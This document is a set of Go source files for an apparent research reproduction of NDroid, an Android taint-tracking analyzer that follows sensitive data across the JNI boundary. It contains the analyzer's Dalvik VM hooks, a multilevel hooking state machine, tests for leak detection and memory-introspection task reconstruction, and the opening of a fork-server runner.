	if !l.Tag.Has(taint.PhoneNumber) || !l.Tag.Has(taint.IMSI) {
		t.Errorf("tag = %v", l.Tag)
	}
	want := dvm.DeviceLine1 + dvm.DeviceOperator
	if string(l.Data) != want {
		t.Errorf("data = %q, want %q", l.Data, want)
	}
	for _, wantLog := range []string{
		"add taint to new method frame",
		"dvmInterpret Begin: name=nativeCallback shorty=VL",
	} {
		if !a.Log.Contains(wantLog) {
			t.Errorf("flow log missing %q:\n%s", wantLog, a.Log.String())
		}
	}
}

// TestVanillaModeSeesNothing: without any taint tracking nothing is reported,
// but the data still flows (ground truth in the net log).
func TestVanillaModeSeesNothing(t *testing.T) {
	app, _ := apps.ByName("ephone")
	a := runApp(t, app, core.ModeVanilla)
	if len(a.Leaks) != 0 {
		t.Errorf("vanilla mode reported leaks: %v", a.Leaks)
	}
	if len(a.Sys.Kern.Net.SentTo("softphone.comwave.net")) != 1 {
		t.Error("data should still have left the device")
	}
}

// TestSourcePolicyLifecycle: policies are created at dvmCallJNIMethod and
// consumed at the method's first instruction.
func TestSourcePolicyLifecycle(t *testing.T) {
	app, _ := apps.ByName("case1")
	a := runApp(t, app, core.ModeNDroid)
	if a.Policies.Applied == 0 {
		t.Error("no SourcePolicy was ever applied")
	}
	if a.Policies.Len() != 0 {
		t.Errorf("%d policies left un-consumed", a.Policies.Len())
	}
}

// TestTracerRanOnNativeCode: the instruction tracer must have traced the
// app's native instructions but skipped the rest of the system.
func TestTracerRanOnNativeCode(t *testing.T) {
	app, _ := apps.ByName("case1")
	a := runApp(t, app, core.ModeNDroid)
	if a.Tracer.Traced == 0 {
		t.Error("tracer saw no native instructions")
	}
}

// TestMultilevelGating: the dvmCallMethod/dvmInterpret instrumentation fires
// for native-originated chains (poc-case3) and the state machine transitions.
func TestMultilevelGating(t *testing.T) {
	app, _ := apps.ByName("poc-case3")
	a := runApp(t, app, core.ModeNDroid)
	if a.ML.Transitions == 0 {
		t.Error("multilevel state machine never transitioned")
	}
	if a.ML.Level() != 0 {
		t.Errorf("chain level = %d at end, want 0 (balanced)", a.ML.Level())
	}
}

// TestDroidScopeModeDetectsLikeTaintDroid: the DroidScope baseline tracks the
// Java context like TaintDroid (the paper: no new flows beyond TaintDroid).
func TestDroidScopeModeDetectsLikeTaintDroid(t *testing.T) {
	app, _ := apps.ByName("case1")
	a := runApp(t, app, core.ModeDroidScope)
	if !a.Detected(taint.IMEI) {
		t.Error("droidscope mode should detect case 1")
	}
	if a.Tracer.Traced == 0 {
		t.Error("droidscope mode should trace everything")
	}
	if a.VMIWalks() == 0 {
		t.Error("droidscope mode should pay per-instruction reconstruction")
	}
}
