package core

import (
	"repro/internal/arm"
	"repro/internal/dvm"
)

// Multilevel implements the multilevel hooking technique of §V-B / Fig. 5:
// a chain of preconditions T1..T6 evaluated over the branch-event stream so
// that the dvmCallMethod* and dvmInterpret instrumentation only fires when
// the call chain actually originated in third-party native code.
//
//	T1: from ∈ native code  ∧ to == a JNI-exit function entry
//	T2: T1 ∧ to == dvmCallMethod* entry
//	T3: T2 ∧ to == dvmInterpret entry
//	T4: T3 ∧ to == C+4 (return past the dvmInterpret call site)
//	T5: T2 ∧ to == B+4 (return past the dvmCallMethod* call site)
//	T6: T1 ∧ to == A+4 (return into the native caller)
type Multilevel struct {
	vm *dvm.VM

	// Enabled gates the whole mechanism; when false, Level reports
	// maxLevel so hooks always instrument (the ablation baseline).
	Enabled bool

	// inNative answers the T1 membership test.
	inNative func(addr uint32) bool

	// jniExitEntries marks the entry addresses of the JNI-exit functions
	// (Table II's Call* family plus ThrowNew).
	jniExitEntries map[uint32]bool
	callMethodAddr map[uint32]bool // dvmCallMethod{,V,A} entries
	interpAddr     uint32

	// watchLo/watchHi bound every watched entry address (all live inside the
	// emulated libdvm image), so the level-0 common case — a branch that
	// stays inside third-party native code — is rejected with two compares
	// instead of a map probe per taken branch.
	watchLo, watchHi uint32

	// cpu, when bound, mirrors the level-0 watch range into the CPU's
	// branch-watch filter so out-of-range events are rejected before the
	// BranchFn indirect call is even made. At level >= 1 the chain watches
	// return sites (A+4, B+4, C+4) outside the libdvm range, so the filter
	// is lifted until the chain unwinds back to level 0.
	cpu *arm.CPU

	level      int    // 0 none, 1 after T1, 2 after T2, 3 after T3
	aSite      uint32 // the native call-site address (A of Fig. 5)
	bSite      uint32
	cSite      uint32
	depthGuard int

	// Transitions counts level changes (observability for tests/benches).
	Transitions uint64
}

// NewMultilevel wires the state machine to a VM's address space.
func NewMultilevel(vm *dvm.VM, inNative func(addr uint32) bool) *Multilevel {
	ml := &Multilevel{
		vm:             vm,
		Enabled:        true,
		inNative:       inNative,
		jniExitEntries: make(map[uint32]bool),
		callMethodAddr: make(map[uint32]bool),
		interpAddr:     vm.InternalAddr("dvmInterpret"),
	}
	for _, t := range []string{"Void", "Object", "Boolean", "Byte", "Char", "Short", "Int", "Long", "Float", "Double"} {
		for _, variant := range []string{"", "V", "A"} {
			for _, family := range []string{"Call", "CallStatic", "CallNonvirtual"} {
				name := family + t + "Method" + variant
				if a := vm.InternalAddr(name); a != 0 {
					ml.jniExitEntries[a] = true
				}
			}
		}
	}
	ml.jniExitEntries[vm.InternalAddr("ThrowNew")] = true
	ml.jniExitEntries[vm.InternalAddr("NewObject")] = true
	ml.jniExitEntries[vm.InternalAddr("NewObjectV")] = true
	ml.jniExitEntries[vm.InternalAddr("NewObjectA")] = true
	for _, n := range []string{"dvmCallMethod", "dvmCallMethodV", "dvmCallMethodA", "initException"} {
		ml.callMethodAddr[vm.InternalAddr(n)] = true
	}
	ml.watchLo, ml.watchHi = ^uint32(0), 0
	watch := func(a uint32) {
		if a == 0 {
			return
		}
		if a < ml.watchLo {
			ml.watchLo = a
		}
		if a > ml.watchHi {
			ml.watchHi = a
		}
	}
	for a := range ml.jniExitEntries {
		watch(a)
	}
	for a := range ml.callMethodAddr {
		watch(a)
	}
	watch(ml.interpAddr)
	return ml
}

// BindCPU mirrors the watch range into cpu's branch filter (see the cpu
// field). Call after NewMultilevel, before execution starts.
func (ml *Multilevel) BindCPU(cpu *arm.CPU) {
	ml.cpu = cpu
	ml.syncWatch()
}

// syncWatch narrows the CPU filter at level 0 and lifts it otherwise.
func (ml *Multilevel) syncWatch() {
	if ml.cpu == nil {
		return
	}
	if ml.level == 0 {
		ml.cpu.SetBranchWatch(ml.watchLo, ml.watchHi)
	} else {
		ml.cpu.ClearBranchWatch()
	}
}

// OnBranch consumes one control-transfer event.
func (ml *Multilevel) OnBranch(from, to uint32) {
	if !ml.Enabled {
		return
	}
	switch {
	case ml.level == 0:
		if to < ml.watchLo || to > ml.watchHi {
			return
		}
		if ml.jniExitEntries[to] && ml.inNative != nil && ml.inNative(from) {
			ml.level = 1
			ml.aSite = from
			ml.Transitions++
			ml.syncWatch()
		}
	case ml.level == 1:
		switch {
		case ml.callMethodAddr[to]:
			ml.level = 2
			ml.bSite = from
			ml.Transitions++
		case to == ml.aSite+4: // T6: returned to native code
			ml.level = 0
			ml.Transitions++
			ml.syncWatch()
		}
	case ml.level == 2:
		switch {
		case to == ml.interpAddr:
			ml.level = 3
			ml.cSite = from
			ml.Transitions++
		case to == ml.bSite+4: // T5
			ml.level = 1
			ml.Transitions++
		}
	case ml.level == 3:
		if to == ml.cSite+4 { // T4
			ml.level = 2
			ml.Transitions++
		}
	}
}

// T2 reports whether the dvmCallMethod* instrumentation should fire.
func (ml *Multilevel) T2() bool { return !ml.Enabled || ml.level >= 2 }

// T3 reports whether the dvmInterpret instrumentation should fire.
func (ml *Multilevel) T3() bool { return !ml.Enabled || ml.level >= 3 }

// Level exposes the current chain depth.
func (ml *Multilevel) Level() int { return ml.level }

// Reset clears the chain state.
func (ml *Multilevel) Reset() {
	ml.level = 0
	ml.syncWatch()
}
