package core

import (
	"fmt"

	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/dvm"
	"repro/internal/taint"
)

// installDVMHooks wires the DVM Hook Engine (§V-B): instrumentation on the
// five groups of JNI-related functions — JNI entry, JNI exit, object
// creation, field access, and exception.
func (a *Analyzer) installDVMHooks() {
	vm := a.Sys.VM

	// ---- (1) JNI entry: dvmCallJNIMethod --------------------------------
	vm.HookInternal("dvmCallJNIMethod", dvm.InternalHook{
		Before: func(ctx *dvm.CallCtx) { a.onJNIEntry(ctx) },
		After:  func(ctx *dvm.CallCtx) { a.onJNIReturn(ctx) },
		BindJNI: func(m *dex.Method) (func(*dvm.CallCtx), func(*dvm.CallCtx), bool) {
			return a.bindJNIEntry(m), func(ctx *dvm.CallCtx) { a.onJNIReturn(ctx) }, true
		},
	})

	// ---- (2) JNI exit: dvmCallMethod* + dvmInterpret ---------------------
	for _, name := range []string{"dvmCallMethod", "dvmCallMethodV", "dvmCallMethodA"} {
		vm.HookInternal(name, dvm.InternalHook{
			Before: func(ctx *dvm.CallCtx) {
				if a.ML != nil && !a.ML.T2() {
					return
				}
				a.onCallMethod(ctx)
			},
		})
	}
	vm.HookInternal("dvmInterpret", dvm.InternalHook{
		Before: func(ctx *dvm.CallCtx) {
			if a.ML != nil && !a.ML.T3() {
				return
			}
			a.onInterpret(ctx)
		},
	})

	// ---- (3) object creation: NOF/MAF pairs ------------------------------
	vm.HookInternal("NewStringUTF", dvm.InternalHook{
		Before: func(ctx *dvm.CallCtx) { a.Log.Addf("NewStringUTF Begin") },
		After:  func(ctx *dvm.CallCtx) { a.onNewString(ctx, true) },
	})
	vm.HookInternal("NewString", dvm.InternalHook{
		After: func(ctx *dvm.CallCtx) { a.onNewString(ctx, false) },
	})
	vm.HookInternal("dvmCreateStringFromCstr", dvm.InternalHook{
		Before: func(ctx *dvm.CallCtx) {
			a.Log.Addf("dvmCreateStringFromCstr Begin: %q", a.Sys.Mem.ReadCString(ctx.CStrAddr, 80))
		},
		After: func(ctx *dvm.CallCtx) {
			if ctx.ResultObj != nil {
				a.Log.Addf("dvmCreateStringFromCstr return 0x%x", ctx.ResultObj.Addr)
			}
		},
	})

	// ---- (4) field access ------------------------------------------------
	for _, t := range []string{"Object", "Boolean", "Byte", "Char", "Short", "Int", "Long", "Float", "Double"} {
		wide := t == "Long" || t == "Double"
		isObj := t == "Object"
		for _, prefix := range []string{"Get", "GetStatic"} {
			vm.HookInternal(prefix+t+"Field", dvm.InternalHook{
				After: func(ctx *dvm.CallCtx) { a.onGetField(ctx, isObj) },
			})
		}
		wideCopy := wide
		for _, prefix := range []string{"Set", "SetStatic"} {
			vm.HookInternal(prefix+t+"Field", dvm.InternalHook{
				After: func(ctx *dvm.CallCtx) { a.onSetField(ctx, wideCopy, isObj) },
			})
		}
	}

	// ---- (5) exception ----------------------------------------------------
	vm.HookInternal("initException", dvm.InternalHook{
		After: func(ctx *dvm.CallCtx) { a.onInitException(ctx) },
	})

	// ---- string and array access from native -----------------------------
	vm.HookInternal("GetStringUTFChars", dvm.InternalHook{
		Before: func(ctx *dvm.CallCtx) { a.Log.Addf("TrustCallHandler[GetStringUTFChars] begin") },
		After:  func(ctx *dvm.CallCtx) { a.onGetStringChars(ctx) },
	})
	for _, t := range []string{"Boolean", "Byte", "Char", "Short", "Int", "Long", "Float", "Double"} {
		vm.HookInternal("Get"+t+"ArrayRegion", dvm.InternalHook{
			After: func(ctx *dvm.CallCtx) { a.onArrayToNative(ctx) },
		})
		vm.HookInternal("Get"+t+"ArrayElements", dvm.InternalHook{
			After: func(ctx *dvm.CallCtx) { a.onArrayToNative(ctx) },
		})
		vm.HookInternal("Set"+t+"ArrayRegion", dvm.InternalHook{
			After: func(ctx *dvm.CallCtx) { a.onArrayFromNative(ctx) },
		})
	}
}

// onJNIEntry builds and installs the SourcePolicy for a Java-to-native call
// (§V-B "JNI Entry", Fig. 6 step 1, Fig. 8 step 0).
func (a *Analyzer) onJNIEntry(ctx *dvm.CallCtx) {
	a.InstrumentationCalls++
	m := ctx.Method
	a.Log.Addf("dvmCallJNIMethod: name=%s shorty=%s class=%s insnAddr=0x%x",
		m.Name, m.Shorty, m.Class.Name, m.NativeAddr)

	p := &SourcePolicy{
		MethodAddress: m.NativeAddr,
		MethodShorty:  m.Shorty,
		AccessFlags:   m.Flags,
	}
	taints := ctx.ArgTaints
	get := func(i int) taint.Tag {
		if i < len(taints) {
			return taints[i]
		}
		return 0
	}
	p.TR0, p.TR1, p.TR2, p.TR3 = get(0), get(1), get(2), get(3)
	if len(taints) > 4 {
		p.StackArgsNum = len(taints) - 4
		p.StackArgsTaints = append([]taint.Tag(nil), taints[4:]...)
	}
	base := defaultHandler(a.Engine)
	p.Handler = func(sp *SourcePolicy, c *arm.CPU) {
		base(sp, c)
		a.Log.Addf("SourceHandler @0x%x", sp.MethodAddress)
	}

	// Taint-map entries for object arguments at their direct addresses and
	// shadow entries keyed by the indirect refs native code receives. A
	// clean crossing skips the walk: with the latch off, every argument
	// taint and object tag is provably zero, so no entry would be written
	// and no line logged.
	if !a.crossingClean() {
		for i, o := range ctx.ArgObjs {
			t := get(i)
			if o == nil {
				continue
			}
			t |= o.Taint
			if t == 0 {
				continue
			}
			a.Engine.Mem.Set32(o.Addr, t)
			a.Engine.AddRefTaint(ctx.CPUArgs[i], t)
			a.Log.Addf("args[%d]@0x%x taint: %v", i, o.Addr, t)
		}
	}

	a.Policies.Put(p)
	a.installMethodEntryHook(m.NativeAddr)
	a.summaryEnter(ctx)
}

// installMethodEntryHook arranges for the SourcePolicy to be applied at the
// native method's first instruction.
func (a *Analyzer) installMethodEntryHook(addr uint32) {
	a.Sys.CPU.Hook(addr, func(c *arm.CPU) arm.HookAction {
		if p, ok := a.Policies.Take(c.R[arm.PC]); ok {
			p.Apply(c)
		}
		return arm.ActionContinue
	})
}

// installMethodEntryHookOnce is the bound-chain variant: Hook invalidates the
// address's page of translated blocks, so a fused chain must not re-install
// per crossing (that retranslation is a dominant unfused cost, and two fused
// methods sharing a page would ping-pong each other's blocks).
func (a *Analyzer) installMethodEntryHookOnce(addr uint32) {
	if a.entryBound[addr] {
		return
	}
	if a.entryBound == nil {
		a.entryBound = make(map[uint32]bool)
	}
	a.entryBound[addr] = true
	a.installMethodEntryHook(addr)
}

// bindJNIEntry specializes onJNIEntry for one resolved method: the log line
// is preformatted, the SourcePolicy is allocated once and refilled per call
// (Put→Take is synchronous within a crossing), and the entry hook installs
// once. The per-call closure must replay onJNIEntry's observable effects —
// the log lines, the taint-map/ref-shadow writes, the policy handled at the
// method's first instruction — byte for byte.
func (a *Analyzer) bindJNIEntry(m *dex.Method) func(*dvm.CallCtx) {
	entryLine := fmt.Sprintf("dvmCallJNIMethod: name=%s shorty=%s class=%s insnAddr=0x%x",
		m.Name, m.Shorty, m.Class.Name, m.NativeAddr)
	p := &SourcePolicy{
		MethodAddress: m.NativeAddr,
		MethodShorty:  m.Shorty,
		AccessFlags:   m.Flags,
	}
	base := defaultHandler(a.Engine)
	p.Handler = func(sp *SourcePolicy, c *arm.CPU) {
		base(sp, c)
		a.Log.Addf("SourceHandler @0x%x", sp.MethodAddress)
	}
	a.installMethodEntryHookOnce(m.NativeAddr)

	return func(ctx *dvm.CallCtx) {
		a.InstrumentationCalls++
		a.Log.Add(entryLine)

		taints := ctx.ArgTaints
		get := func(i int) taint.Tag {
			if i < len(taints) {
				return taints[i]
			}
			return 0
		}
		p.TR0, p.TR1, p.TR2, p.TR3 = get(0), get(1), get(2), get(3)
		p.StackArgsNum = 0
		p.StackArgsTaints = p.StackArgsTaints[:0]
		if len(taints) > 4 {
			p.StackArgsNum = len(taints) - 4
			p.StackArgsTaints = append(p.StackArgsTaints, taints[4:]...)
		}

		if !a.crossingClean() {
			for i, o := range ctx.ArgObjs {
				t := get(i)
				if o == nil {
					continue
				}
				t |= o.Taint
				if t == 0 {
					continue
				}
				a.Engine.Mem.Set32(o.Addr, t)
				a.Engine.AddRefTaint(ctx.CPUArgs[i], t)
				a.Log.Addf("args[%d]@0x%x taint: %v", i, o.Addr, t)
			}
		}

		a.Policies.Put(p)
		a.summaryEnter(ctx)
	}
}

// onJNIReturn overrides the JNI return taint with the shadow state — the
// precise tracking that replaces TaintDroid's any-parameter policy.
func (a *Analyzer) onJNIReturn(ctx *dvm.CallCtx) {
	// An active summary replaces the bridge-captured shadow (meaningless
	// under tracer suppression) with the transfer-computed taint before
	// anything reads it; everything below then runs identically.
	a.summaryExit(ctx)
	t := ctx.RetTaint // R0/R1 shadow captured by the bridge
	// The object walk is skipped only when the captured shadow is already
	// clear AND no counted taint exists anywhere (ObjectTaint would be 0).
	if ctx.Method.Shorty[0] == 'L' && (t != 0 || !a.crossingClean()) {
		ref := uint32(ctx.Ret)
		if o := a.Sys.VM.DecodeRef(ref); o != nil {
			t |= a.Engine.ObjectTaint(o, ref)
		}
	}
	ctx.RetTaint = t
	ctx.RetOverride = true
	if t != 0 {
		a.Log.Addf("JNIReturn %s taint=%v", ctx.Method.Name, t)
	}
}

// onCallMethod recovers the taints of a native-to-Java call's parameters from
// the shadow registers/memory (§V-B "JNI Exit", first challenge).
func (a *Analyzer) onCallMethod(ctx *dvm.CallCtx) {
	a.InstrumentationCalls++
	cpu := a.Sys.CPU
	if a.crossingClean() {
		// Shadow registers, taint map, and ref shadow are all provably
		// empty: every recovered taint would be zero, and JavaTaints
		// already is.
		if ctx.JavaMethod != nil {
			a.Log.Addf("%s Begin: method=%s shorty=%s", ctx.Name, ctx.JavaMethod.Name, ctx.JavaMethod.Shorty)
		}
		return
	}
	for i := range ctx.JavaTaints {
		var t taint.Tag
		if i < len(ctx.JavaArgSrc) {
			src := ctx.JavaArgSrc[i]
			if src.Reg >= 0 {
				t |= cpu.RegTaint[src.Reg]
			}
			if src.Addr != 0 {
				t |= a.Engine.Mem.Get32(src.Addr)
			}
		}
		if i < len(ctx.JavaArgRefs) && ctx.JavaArgRefs[i] != 0 {
			ref := ctx.JavaArgRefs[i]
			t |= a.Engine.ObjectTaint(a.Sys.VM.DecodeRef(ref), ref)
		}
		ctx.JavaTaints[i] = t
	}
	if ctx.JavaMethod != nil {
		a.Log.Addf("%s Begin: method=%s shorty=%s", ctx.Name, ctx.JavaMethod.Name, ctx.JavaMethod.Shorty)
	}
}

// onInterpret writes the recovered taints into the new Dalvik frame's
// argument slots (§V-B second challenge; Fig. 9 "t[44bf8c14] = 0x1602").
func (a *Analyzer) onInterpret(ctx *dvm.CallCtx) {
	if ctx.FrameAddr == 0 || ctx.JavaMethod == nil {
		return
	}
	a.InstrumentationCalls++
	m := ctx.JavaMethod
	first := m.NumRegs - m.InsSize()
	for i, t := range ctx.JavaTaints {
		if t == 0 {
			continue
		}
		// This raw write bypasses the interpreter's setRegTaint, so it must
		// flip the Java-side latch itself.
		a.Sys.VM.NoteTaint(t)
		slot := ctx.FrameAddr + uint32(8*(first+i)) + 4
		a.Sys.Mem.Write32(slot, uint32(t))
		a.Log.Addf("dvmInterpret: add taint to new method frame t[%x] = %v", slot, t)
	}
	a.Log.Addf("dvmInterpret Begin: name=%s shorty=%s curFrame@0x%x accessFlags=0x%x",
		m.Name, m.Shorty, ctx.FrameAddr, m.Flags)
}

// onNewString taints a native-created string object from the source buffer
// (Fig. 6 step 2.1: "add taint 514 to new string object@0x412a3320").
func (a *Analyzer) onNewString(ctx *dvm.CallCtx, utf bool) {
	o := ctx.ResultObj
	if o == nil {
		return
	}
	a.InstrumentationCalls++
	var t taint.Tag
	if !a.crossingClean() {
		if utf {
			n := uint32(len(o.Str)) + 1
			t = a.Engine.Mem.GetRange(ctx.CStrAddr, n)
		} else {
			t = a.Engine.Mem.GetRange(ctx.UTF16Addr, ctx.UTF16Len*2)
		}
	}
	if t == 0 {
		a.Log.Addf("%s End (untainted)", ctx.Name)
		return
	}
	o.Taint |= t
	a.Sys.VM.NoteTaint(t)
	a.Engine.Mem.Set32(o.Addr, t)
	a.Engine.AddRefTaint(ctx.ResultRef, t)
	a.Sys.CPU.SetRegTaint(0, t)
	a.Log.Addf("realStringAddr:0x%x", o.Addr)
	a.Log.Addf("add taint %v to new string object@0x%x", t, o.Addr)
	a.Log.Addf("t(%x) := %v", o.Addr, t)
	a.Log.Addf("%s return 0x%x", ctx.Name, ctx.ResultRef)
	a.Log.Addf("%s End", ctx.Name)
}

// onGetStringChars propagates a jstring's taint to the C buffer returned by
// GetStringUTFChars (Fig. 7 step 2; Fig. 8 steps 1-3).
func (a *Analyzer) onGetStringChars(ctx *dvm.CallCtx) {
	o := ctx.FieldObj
	if o == nil {
		return
	}
	a.InstrumentationCalls++
	ref := uint32(ctx.Value)
	var t taint.Tag
	if !a.crossingClean() {
		t = a.Engine.ObjectTaint(o, ref)
	}
	a.Log.Addf("jstring taint:%v", t)
	if t != 0 {
		buf := uint32(ctx.Ret)
		a.Engine.Mem.SetRange(buf, uint32(len(o.Str))+1, t)
		a.Sys.CPU.SetRegTaint(0, t)
		a.Log.Addf("t(%x) := %v", buf, t)
	}
	a.Log.Addf("TrustCallHandler[GetStringUTFChars] end")
}

// onArrayToNative propagates an array object's taint to the native buffer.
func (a *Analyzer) onArrayToNative(ctx *dvm.CallCtx) {
	o := ctx.FieldObj
	if o == nil {
		return
	}
	if a.crossingClean() {
		return // o.Taint is provably zero while the latch is off
	}
	t := o.Taint
	if t == 0 {
		return
	}
	a.Engine.Mem.SetRange(uint32(ctx.Ret), ctx.UTF16Len, t)
	a.Sys.CPU.SetRegTaint(0, a.Sys.CPU.RegTaint[0]|t)
	a.Log.Addf("%s: t(%x..+%d) := %v", ctx.Name, uint32(ctx.Ret), ctx.UTF16Len, t)
}

// onArrayFromNative taints an array object from the native source buffer.
func (a *Analyzer) onArrayFromNative(ctx *dvm.CallCtx) {
	o := ctx.FieldObj
	if o == nil {
		return
	}
	if a.crossingClean() {
		return // the taint map is empty, GetRange would be zero
	}
	t := a.Engine.Mem.GetRange(uint32(ctx.Ret), ctx.UTF16Len)
	if t == 0 {
		return
	}
	o.Taint |= t
	a.Sys.VM.NoteTaint(t)
	a.Log.Addf("%s: array@0x%x taint |= %v", ctx.Name, o.Addr, t)
}

// onGetField surfaces a field's TaintDroid tag into the native shadow state
// (Table IV, "get a field's taint after executing Get*Field").
func (a *Analyzer) onGetField(ctx *dvm.CallCtx, isObj bool) {
	a.InstrumentationCalls++
	if a.crossingClean() {
		return // field tags and object taints are provably zero
	}
	t := ctx.ValueTag
	if isObj {
		if o := a.Sys.VM.DecodeRef(ctx.ResultRef); o != nil {
			t |= o.Taint
		}
	}
	if t == 0 {
		return
	}
	a.Sys.CPU.SetRegTaint(0, t)
	if ctx.ResultRef != 0 {
		a.Engine.AddRefTaint(ctx.ResultRef, t)
	}
	a.Log.Addf("%s: field %s taint=%v", ctx.Name, fieldName(ctx), t)
}

// onSetField writes the native value's shadow taint into the field's
// TaintDroid slot ("add taints to the corresponding field before executing
// Set*Field functions").
func (a *Analyzer) onSetField(ctx *dvm.CallCtx, wide, isObj bool) {
	if ctx.Field == nil {
		return
	}
	a.InstrumentationCalls++
	if a.crossingClean() {
		return // shadow registers and taint map are provably clear
	}
	cpu := a.Sys.CPU
	t := cpu.RegTaint[3]
	if wide {
		t |= a.Engine.Mem.Get32(cpu.R[arm.SP]) // hi word is the first stack arg
	}
	if isObj {
		ref := cpu.R[3]
		t |= a.Engine.ObjectTaint(a.Sys.VM.DecodeRef(ref), ref)
	}
	if t == 0 {
		return
	}
	a.Sys.VM.NoteTaint(t)
	fld := ctx.Field
	if ctx.FieldObj != nil {
		ctx.FieldObj.FieldTaints[fld.Index] |= t
		if wide && fld.Index+1 < len(ctx.FieldObj.FieldTaints) {
			ctx.FieldObj.FieldTaints[fld.Index+1] |= t
		}
	} else {
		fld.Class.StaticTaints[fld.Index] |= uint32(t)
		if wide && fld.Index+1 < len(fld.Class.StaticTaints) {
			fld.Class.StaticTaints[fld.Index+1] |= uint32(t)
		}
	}
	a.Log.Addf("%s: field %s taint=%v", ctx.Name, fieldName(ctx), t)
}

// onInitException adds the taint of ThrowNew's message to the string object
// inside the new exception object (§V-B "Exception").
func (a *Analyzer) onInitException(ctx *dvm.CallCtx) {
	a.InstrumentationCalls++
	msg := ctx.ResultObj
	exc := ctx.FieldObj
	if msg == nil || exc == nil {
		return
	}
	if a.crossingClean() {
		return // taint map and shadow registers are provably clear
	}
	n := uint32(len(msg.Str)) + 1
	t := a.Engine.Mem.GetRange(ctx.CStrAddr, n) | a.Sys.CPU.RegTaint[2]
	if t == 0 {
		return
	}
	msg.Taint |= t
	a.Sys.VM.NoteTaint(t)
	exc.Taint |= t
	if len(exc.FieldTaints) > 0 {
		exc.FieldTaints[0] |= t
	}
	a.Log.Addf("initException: exception message taint=%v", t)
}

func fieldName(ctx *dvm.CallCtx) string {
	if ctx.Field == nil {
		return "?"
	}
	return ctx.Field.Class.Name + "." + ctx.Field.Name
}
