package core

import (
	"strings"
	"testing"

	"repro/internal/kernel"
)

// TestReconstructorRecoversTasks: the VMI walk over raw guest memory must
// recover the process list and memory maps the kernel serialized.
func TestReconstructorRecoversTasks(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	// A second process with its own mappings.
	t2 := sys.Kern.NewTask("system_server")
	sys.Kern.AddVMA(t2, kernel.VMA{Start: 0x1000, End: 0x2000, Perms: "r-x", Name: "/system/bin/app_process"})

	r := &Reconstructor{Mem: sys.Mem, InitTaskAddr: sys.Kern.InitTaskAddr}
	tasks, err := r.Tasks()
	if err != nil {
		t.Fatal(err)
	}
	if len(tasks) != 2 {
		t.Fatalf("recovered %d tasks, want 2", len(tasks))
	}
	if tasks[0].Comm != "app_process" || tasks[1].Comm != "system_server" {
		t.Errorf("task names: %q %q", tasks[0].Comm, tasks[1].Comm)
	}
	if tasks[0].PID == tasks[1].PID {
		t.Error("duplicate PIDs")
	}

	// The app task must expose libc.so / libm.so / libdvm.so mappings.
	app := tasks[0]
	for _, lib := range []string{"libc.so", "libm.so", "libdvm.so"} {
		if _, ok := app.ModuleBase(lib); !ok {
			t.Errorf("VMI view missing %s", lib)
		}
	}
	// Permissions decode.
	m, ok := app.ModuleAt(kernel.LibcBase)
	if !ok || m.Perms != "r-x" {
		t.Errorf("libc mapping = %+v ok=%v", m, ok)
	}
}

// TestReconstructorSeesLoadedAppLib: after LoadNativeLib, the app's library
// appears in the raw-memory view (how NDroid locates third-party code, §V-G).
func TestReconstructorSeesLoadedAppLib(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	prog, err := sys.VM.LoadNativeLib("libpayload.so", `
entry:
	BX LR
`)
	if err != nil {
		t.Fatal(err)
	}
	r := &Reconstructor{Mem: sys.Mem, InitTaskAddr: sys.Kern.InitTaskAddr}
	task, ok := r.FindTask("app_process")
	if !ok {
		t.Fatal("app task not found")
	}
	m, ok := task.ModuleAt(prog.MustLabel("entry"))
	if !ok || !strings.Contains(m.Name, "libpayload.so") {
		t.Errorf("app lib not attributed: %+v ok=%v", m, ok)
	}
	base, ok := task.ModuleBase("libpayload.so")
	if !ok || base != prog.Base {
		t.Errorf("module base = %#x, want %#x", base, prog.Base)
	}
}

// TestReconstructorPureMemory: corrupting the guest task list breaks the
// walk, demonstrating the reconstructor depends only on raw memory.
func TestReconstructorPureMemory(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	r := &Reconstructor{Mem: sys.Mem, InitTaskAddr: sys.Kern.InitTaskAddr}
	tasks, err := r.Tasks()
	if err != nil || len(tasks) == 0 {
		t.Fatalf("baseline walk failed: %v", err)
	}
	// Overwrite the comm field in guest memory; the host-side kernel task
	// struct is untouched, but the VMI view must change.
	sys.Mem.WriteBytes(sys.Kern.InitTaskAddr+12, []byte("hacked\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
	tasks, err = r.Tasks()
	if err != nil {
		t.Fatal(err)
	}
	if tasks[0].Comm != "hacked" {
		t.Errorf("VMI comm = %q, want view from raw memory", tasks[0].Comm)
	}
	if sys.Task.Comm != "app_process" {
		t.Error("host-side task must be unaffected")
	}
}

// TestReconstructorCycleGuard: a corrupted circular task list terminates
// with an error instead of hanging.
func TestReconstructorCycleGuard(t *testing.T) {
	sys, err := NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	// Point the next pointer back at the head.
	sys.Mem.Write32(sys.Kern.InitTaskAddr+4, sys.Kern.InitTaskAddr)
	r := &Reconstructor{Mem: sys.Mem, InitTaskAddr: sys.Kern.InitTaskAddr}
	if _, err := r.Tasks(); err == nil {
		t.Error("circular list must be detected")
	}
}
