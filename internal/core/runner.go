package core

// Runner is the fork server: it boots one warm System, captures a
// core.Snapshot of the post-framework-init state, and then serves every
// analysis attempt from a copy-on-write clone — Restore rewinds only the
// pages and scalars the previous attempt dirtied, so per-app isolation costs
// O(dirty pages) instead of O(world).
//
// The degradation ladder's semantics are unchanged: every attempt still
// starts from exactly the post-boot state a fresh NewSystem would provide
// (the snapshot-parity suite holds the two byte-identical), and a restore
// that fails — organically or via the core.snapshot.restore injection site —
// poisons the Runner so the ladder's InternalError retry really does get a
// freshly booted System.
//
// A Runner may additionally be wired to the persistent content-addressed
// artifact store (NewCachedRunner): static pre-analysis results, per-library
// assembled images, and dex validation verdicts are then keyed by content
// digest and shared across Runners, service shards, and processes. Artifacts
// are a pure cost optimisation — a cache hit replays exactly what a recompute
// would produce, and a corrupt or injected-faulty entry is evicted, counted
// in Stats.CacheFaults, and recomputed.

import (
	"encoding/binary"
	"hash/fnv"

	"repro/internal/arm"
	"repro/internal/cas"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/static"
	"repro/internal/summary"
)

// Artifact kinds the Runner stores. The schema strings are hashed into every
// key (along with cas.Version), so editing one cleanly invalidates the kind.
var (
	// KindStatic holds static.Portable payloads keyed by Fingerprint.Static.
